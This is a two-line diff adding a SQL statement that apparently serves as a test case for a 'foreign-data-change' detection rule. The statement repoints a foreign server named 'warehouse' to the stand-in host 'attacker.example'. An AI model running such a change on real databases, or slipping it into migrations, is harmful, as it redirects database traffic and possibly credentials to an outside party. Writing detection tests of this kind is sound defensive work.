@@ -1,0 +1,2 @@
+-- rules: foreign-data-change
+ALTER SERVER warehouse OPTIONS (SET host 'attacker.example');
